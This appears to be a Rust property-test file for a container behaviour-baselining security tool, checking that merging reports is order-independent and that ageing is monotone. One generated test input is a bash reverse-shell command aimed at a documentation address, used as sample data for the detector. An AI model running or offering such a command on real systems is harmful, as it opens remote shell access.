//! Merging is commutative, associative and idempotent; ageing is monotone; what is learned never drifts.

use proptest::{
    collection::{btree_set, vec},
    prelude::*,
};

use super::{super::window::expire, *};
use crate::{
    behaviour::{Attributes, MAX_RAISED_COMMANDS},
    decide::{Verdict, decide},
    invariants,
    policy::{groups::Groups, hashes},
    time::{Hour, Timestamp},
};

/// One of a few behaviours, strange ones and variants of one key among them.
fn any_behaviour() -> impl Strategy<Value = crate::behaviour::Behaviour> {
    let origin = prop_oneof![
        4 => Just(Origin::Entrypoint),
        1 => Just(Origin::Unknown),
        1 => Just(Origin::Exec)
    ];
    let source = prop_oneof![
        4 => Just(SourceLayer::Image),
        1 => Just(SourceLayer::ImageCopiedUp),
        1 => Just(SourceLayer::UpperNew)
    ];
    (origin, source, 0..4_usize, 0..3_usize).prop_map(|(origin, source, name, feed)| {
        let text = ["/a", "/b", "/c", "/d"][name];
        match feed {
            0 => behaviour(ProcessParts {
                origin,
                source,
                ..parts("/usr/bin/python3", text)
            }),
            1 => Behaviour::Network(NetworkBehaviour::from(NetworkParts {
                origin,
                executable: "/usr/bin/python3".to_owned(),
                direction: [Direction::Connect, Direction::Send, Direction::Listen][name % 3],
                protocol: Protocol::Udp,
                port: 53,
                destination: Destination::Name(text.to_owned()),
            })),
            _ => Behaviour::Module(ModuleBehaviour::from(ModuleParts {
                origin,
                path: "/usr/lib/x.so".to_owned(),
                sha256: Some(["a", "b"][name % 2].repeat(64)),
                source,
                executable: text.to_owned(),
                ..ModuleParts::default()
            })),
        }
    })
}

/// Command lines, few and many, usual and strange.
fn any_lines() -> impl Strategy<Value = Attributes> {
    let lines = prop_oneof![
        3 => (0..6_u8).prop_map(|number| format!("tar czf /backup/{number}.tar.gz /data")),
        2 => (0..4_u8).prop_map(|number| format!("bash -i >& /dev/tcp/203.0.113.{number}/4242 0>&1")),
        1 => "[a-c]{1,3}",
    ];
    btree_set(lines, 0..4).prop_map(|commands| Attributes {
        commands,
        ..Attributes::default()
    })
}

/// What is known beside a key: addresses of a group, of a denied network and of neither, and volumes.
fn any_attributes() -> impl Strategy<Value = Attributes> {
    let addresses = btree_set(
        prop_oneof![Just([192, 0, 2, 1]), Just([198, 51, 100, 1]), Just([203, 0, 113, 1])],
        0..3,
    );
    (addresses, 0_u32..40).prop_map(|(addresses, log2)| Attributes {
        addresses: addresses.into_iter().map(std::net::IpAddr::from).collect(),
        bytes_sent: 1 << log2,
        ..Attributes::default()
    })
}

/// A batch without a number, of pods that always say the same of themselves.
fn any_batch(
    verified: impl Strategy<Value = bool> + 'static,
    attributes: impl Strategy<Value = Attributes> + 'static,
) -> impl Strategy<Value = Batch> {
    // Within 64 hours: what is reported later than that counts no hour.
    let seen = (
        any_behaviour(),
        -100_000_i64..200_000,
        0_i64..90_000,
        1..5_u64,
        "[xyz]{1,2}",
        (attributes, any::<bool>()),
    )
        .prop_map(
            |(behaviour, first, length, count, lineage, (attributes, snapshot))| BehaviourReport {
                attributes,
                behaviour,
                lineage: vec![lineage],
                count,
                first_seen: at(first),
                last_seen: at(first + length),
                snapshot,
                startup: count.is_multiple_of(2),
            },
        );
    (0..6_usize, vec(seen, 0..6), verified, 0..4_u64).prop_map(|(number, behaviours, verified, lost)| {
        let pod = ReportingPod {
            verified,
            ..pod(
                &format!("p{number}"),
                ["h1", "h2"][number % 2],
                digest(['1', '2'][number % 2]),
            )
        };
        let lost = BTreeMap::from([("ring_full".to_owned(), lost.saturating_sub(2))]);
        Batch {
            losses: BTreeMap::from([(Feed::Process, lost)]),
            ..batch(0, pod, behaviours)
        }
    })
}

/// Numbered batches, and the same in another order with repetitions.
fn batches_in_two_orders(
    verified: impl Strategy<Value = bool> + 'static,
) -> impl Strategy<Value = (Vec<Batch>, Vec<Batch>)> {
    in_two_orders(any_batch(verified, any_attributes()))
}

fn in_two_orders(batch: impl Strategy<Value = Batch>) -> impl Strategy<Value = (Vec<Batch>, Vec<Batch>)> {
    vec(batch, 0..12)
        .prop_map(|mut batches| {
            for (seq, batch) in batches.iter_mut().enumerate() {
                batch.id.seq = seq as u64;
            }
            batches
        })
        .prop_flat_map(|batches| {
            let twice = batches.iter().chain(&batches).cloned().collect::<Vec<_>>();
            (Just(batches), Just(twice).prop_shuffle())
        })
}

fn merged(batches: &[Batch], policy: &crate::policy::Policy, now: impl Fn(usize) -> Timestamp) -> Baseline {
    let mut baseline = Baseline::default();
    // A feed begins with whatever comes first: that is not what is compared.
    for feed in Feed::ALL {
        let feed = baseline.feed_mut(&container(), feed, at(0));
        feed.hours.observe(at(0).hour());
    }
    merged_into(baseline, batches, policy, now)
}

/// A baseline whose feeds are so mature, and that once knew some of the behaviours.
fn with_dormant(maturity: Maturity) -> Baseline {
    let mut baseline = Baseline::default();
    for feed in Feed::ALL {
        let held = baseline.feed_mut(&container(), feed, at(0));
        held.maturity = maturity;
        let dormant = Dormant {
            first: Hour(at(-60 * 86_400).hour().0),
            last_day: at(-30 * 86_400).day(),
            once: true,
        };
        for text in ["/a", "/b"] {
            let known = match feed {
                Feed::Process => process("/usr/bin/python3", text),
                Feed::Network => udp(Direction::Connect, text),
                Feed::Module => library(text),
            };
            held.dormant.insert(known.id(), dormant);
        }
    }
    baseline
}

fn udp(direction: Direction, name: &str) -> Behaviour {
    Behaviour::Network(NetworkBehaviour::from(NetworkParts {
        origin: Origin::Entrypoint,
        executable: "/usr/bin/python3".to_owned(),
        direction,
        protocol: Protocol::Udp,
        port: 53,
        destination: Destination::Name(name.to_owned()),
    }))
}

/// A library of the image: variants of one key.
fn library(executable: &str) -> Behaviour {
    Behaviour::Module(ModuleBehaviour::from(ModuleParts {
        origin: Origin::Entrypoint,
        path: "/usr/lib/x.so".to_owned(),
        sha256: Some("a".repeat(64)),
        source: SourceLayer::Image,
        executable: executable.to_owned(),
        ..ModuleParts::default()
    }))
}

fn merged_into(
    mut baseline: Baseline,
    batches: &[Batch],
    policy: &crate::policy::Policy,
    now: impl Fn(usize) -> Timestamp,
) -> Baseline {
    for (index, batch) in batches.iter().enumerate() {
        merge(&mut baseline, batch, policy, now(index));
    }
    baseline
}

/// The least and the greatest: at `at(100_000)` a feed that began at `at(0)` learns, or judges.
fn learning_or_not() -> impl Strategy<Value = crate::policy::Policy> {
    let learns = prop_oneof![Just(1_000_000), Just(0)];
    (learns, any::<bool>(), any::<bool>()).prop_map(|(learning, denies, lists)| {
        let mut policy = policy(learning);
        let group = ("cloud".to_owned(), vec!["198.51.100.0/24".parse().expect("a range")]);
        policy.network.groups = Groups::new([group]).expect("a group");
        if denies {
            policy.network.deny_networks = ["192.0.2.0/24".parse().expect("a range")].into();
        }
        if lists {
            policy.module.approved = Some(hashes::parse(&"b".repeat(64)).expect("a hash"));
        }
        policy
    })
}

proptest! {
    #[test]
    fn merging_gives_the_same_bytes_in_any_order_and_however_often(
        (batches, otherwise) in batches_in_two_orders(prop::bool::weighted(0.9)),
        policy in learning_or_not(),
    ) {
        let now = |_| at(100_000);
        let (one, other) = (merged(&batches, &policy, now), merged(&otherwise, &policy, now));
        // What nobody vouches for has little room, and what finds none depends on the order.
        prop_assume!(one.all_overflowed() + other.all_overflowed() == 0);
        prop_assert_eq!(
            serde_json::to_string(&one).expect("JSON"),
            serde_json::to_string(&other).expect("JSON")
        );
        prop_assert_eq!(invariants::baseline(&one, &policy), Ok(()));
    }

    #[test]
    fn command_lines_are_learned_and_judged_in_any_order(
        (batches, otherwise) in in_two_orders(any_batch(Just(true), any_lines())),
        learning in prop_oneof![Just(1_000_000), Just(0)],
        judges_by_itself in any::<bool>(),
    ) {
        // What is judged together with what the last hour brought is judged by who came last, and how much is raised
        // depends on how often lines were new two days before: here nothing was, and each batch is judged by itself.
        let policy = policy(learning);
        let learned = |maturity| {
            let mut baseline = merged(&[], &policy, |_| at(100_000));
            let held = baseline.feed_mut(&container(), Feed::Process, at(0));
            held.maturity = maturity;
            baseline
        };
        let maturity = if judges_by_itself { Maturity::Provisional } else { Maturity::Learning };
        let merged = |batches: &[Batch]| merged_into(learned(maturity), batches, &policy, |_| at(100_000));
        let (one, other) = (merged(&batches), merged(&otherwise));
        prop_assume!(one.all_overflowed() + other.all_overflowed() == 0);
        // Lines of a finding give way to none that come later.
        let is_full = |held: &Entry| held.is_quarantined() && held.attributes.commands.len() >= MAX_RAISED_COMMANDS;
        prop_assume!(![&one, &other].iter().any(|merged| merged.entries().any(|(_, _, held)| is_full(held))));
        prop_assert_eq!(
            serde_json::to_string(&one).expect("JSON"),
            serde_json::to_string(&other).expect("JSON")
        );
        prop_assert_eq!(invariants::baseline(&one, &policy), Ok(()));
    }

    #[test]
    fn where_learning_ends_in_between_the_order_decides_states_and_nothing_else(
        // Of what is known beside a key, more is learned before than afterwards.
        (batches, otherwise) in in_two_orders(any_batch(Just(true), Just(Attributes::default()))),
    ) {
        let policy = policy(5);
        // Times of observation lie before the first merge, so that none is cut.
        let earlier = |mut batches: Vec<Batch>| {
            for seen in batches.iter_mut().flat_map(|batch| &mut batch.containers[0].behaviours) {
                seen.first_seen = seen.first_seen.minus(Duration::from_hours(1_000));
                seen.last_seen = seen.last_seen.minus(Duration::from_hours(1_000));
                // What is raised beyond the start is not counted for what is done within.
                seen.startup = false;
            }
            // What cannot be placed does not count before learning is over.
            for batch in &mut batches {
                batch.containers[0].behaviours.retain(|seen| {
                    let is_module = seen.behaviour.feed() == Feed::Module;
                    seen.behaviour.origin() != Origin::Unknown && (seen.behaviour.origin() != Origin::Exec || !is_module)
                });
            }
            batches
        };
        let now = |index| at(i64::try_from(index).expect("small"));
        let state_aside = |batches| {
            let baseline = merged(&earlier(batches), &policy, now);
            let entries = baseline.entries();
            entries
                .map(|(_, id, held)| (id, held.count, held.first_seen, held.last_seen, held.days, held.lineage.clone()))
                .collect::<Vec<_>>()
        };
        prop_assert_eq!(state_aside(batches), state_aside(otherwise));
    }

    #[test]
    fn what_is_in_the_baseline_never_drifts((batches, _) in batches_in_two_orders(any::<bool>()), verified: bool) {
        let baseline = merged(&batches, &policy(1_000_000), |_| at(100_000));
        for (_, _, held) in baseline.entries().filter(|(_, _, held)| !held.is_quarantined()) {
            for maturity in [Maturity::Learning, Maturity::Provisional, Maturity::Enforcing] {
                let verdict = decide(Some(held), maturity, &policy(0), &held.behaviour, verified);
                // What is approved anyway counts from pods alone that are known.
                let counts = verified || !crate::rules::is_approved(&held.behaviour, &policy(0));
                prop_assert_eq!(verdict, if counts { Verdict::Known } else { Verdict::Unplaced });
            }
        }
    }

    #[test]
    fn ageing_is_monotone_and_a_clock_that_goes_back_loses_nothing(
        (batches, _) in batches_in_two_orders(Just(true)),
        days in 0_i64..20,
        window in 1_u8..99,
    ) {
        let mut baseline = merged(&batches, &policy(1_000_000), |_| at(100_000));
        let mut policy = policy(1_000_000);
        policy.window_days = window;
        expire(&mut baseline, &policy, at(days * 86_400));
        let once = baseline.clone();
        prop_assert!(!expire(&mut baseline, &policy, at(days * 86_400)).changed());
        prop_assert!(!expire(&mut baseline, &policy, at((days - 300) * 86_400)).changed());
        policy.window_days = 99;
        prop_assert!(!expire(&mut baseline, &policy, at((days + 300) * 86_400)).changed());
        prop_assert_eq!(baseline, once);
    }

    #[test]
    fn marks_do_not_depend_on_their_order(numbers in vec(-80_i64..80, 0..40)) {
        let mark = |numbers: &[i64]| {
            let mut marks = Marks::NONE;
            for number in numbers {
                marks.mark(*number);
            }
            marks
        };
        let mut sorted = numbers.clone();
        sorted.sort_unstable();
        prop_assert_eq!(mark(&numbers), mark(&sorted));
        sorted.dedup();
        let newest = sorted.last().copied().unwrap_or(0);
        let within = sorted.iter().filter(|number| newest - **number < 64).count();
        prop_assert_eq!(mark(&numbers).count() as usize, within);
    }

    #[test]
    fn the_newest_mark_until_a_number_is_the_last_of_those_that_were_made(
        numbers in vec(-40_i64..40, 0..20), until in -90_i64..90,
    ) {
        let mut marks = Marks::NONE;
        for number in &numbers {
            marks.mark(*number);
        }
        let newest = numbers.iter().max().copied().unwrap_or(0);
        let within = numbers.iter().filter(|number| **number <= until && newest - **number < 64);
        prop_assert_eq!(marks.newest_until(until), within.max().copied());
    }

    #[test]
    fn marks_take_any_number(numbers: Vec<i64>, start: i64, bits: u64) {
        let mut marks = Marks { newest: start, bits };
        for number in &numbers {
            marks.mark(*number);
        }
        let most = numbers.iter().max().copied();
        let newest = if bits == 0 { most } else { most.map(|most| most.max(start)) };
        prop_assert_eq!(Some(marks.newest), newest.or(Some(start)));
    }

    #[test]
    fn the_pods_that_are_kept_do_not_depend_on_their_order(
        pods in vec((0..60_usize, 0..5_usize, 0_i64..50), 0..80).prop_shuffle(),
        limit in 1..20_usize,
    ) {
        let pods: BTreeMap<_, _> = pods
            .into_iter()
            .map(|(number, revision, first)| {
                let sighting = Sighting {
                    pod: format!("agent-{number}"),
                    node: "n1".into(),
                    digest: Seen::Unknown,
                    template_hash: Seen::One(format!("h{revision}").into()),
                    first_seen: at(first),
                };
                (crate::id::PodUid::new(format!("p{number}")), sighting)
            })
            .collect();
        let at_once = sample(&pods, limit);
        let mut one_by_one = BTreeMap::new();
        for (uid, sighting) in pods.iter().rev() {
            one_by_one.insert(uid.clone(), sighting.clone());
            one_by_one = sample(&one_by_one, limit);
        }
        prop_assert_eq!(at_once, one_by_one);
    }
}

proptest! {
    // Each case merges all batches four times.
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn what_was_known_once_returns_in_any_order(
        (batches, otherwise) in batches_in_two_orders(prop::bool::weighted(0.9)),
        maturity in prop_oneof![Just(Maturity::Learning), Just(Maturity::Provisional), Just(Maturity::Enforcing)],
        policy in learning_or_not(),
    ) {
        let policy = crate::policy::Policy {
            // Measured: fewer hours are told of than it asks for.
            maturity: crate::policy::Policy::default().maturity,
            ..policy
        };
        let merged = |batches: &[Batch]| merged_into(with_dormant(maturity), batches, &policy, |_| at(100_000));
        let (one, other) = (merged(&batches), merged(&otherwise));
        prop_assume!(one.all_overflowed() + other.all_overflowed() == 0);
        prop_assert_eq!(
            serde_json::to_string(&one).expect("JSON"),
            serde_json::to_string(&other).expect("JSON")
        );
        for (_, feed, held) in one.feeds() {
            prop_assert_eq!(held.novelty(&policy), other.containers[&container()].feeds[&feed].novelty(&policy));
            prop_assert_eq!(held.maturity, maturity);
        }
        prop_assert_eq!(invariants::baseline(&one, &policy), Ok(()));
    }

    #[test]
    fn threads_that_each_merge_a_part_of_what_happened_make_no_difference(
        (batches, _) in batches_in_two_orders(Just(true)),
        policy in learning_or_not(),
    ) {
        // One baseline behind a lock, as controllers share an object: who comes first is anybody's guess.
        let shared = std::sync::Mutex::new(merged(&[], &policy, |_| at(100_000)));
        std::thread::scope(|scope| {
            for part in batches.chunks(batches.len().div_ceil(3).max(1)) {
                let (shared, policy) = (&shared, &policy);
                scope.spawn(move || {
                    for batch in part {
                        merge(&mut shared.lock().expect("no panic"), batch, policy, at(100_000));
                    }
                });
            }
        });
        let shared = shared.into_inner().expect("no panic");
        prop_assume!(shared.all_overflowed() == 0);
        prop_assert_eq!(
            serde_json::to_string(&shared).expect("JSON"),
            serde_json::to_string(&merged(&batches, &policy, |_| at(100_000))).expect("JSON")
        );
    }
}
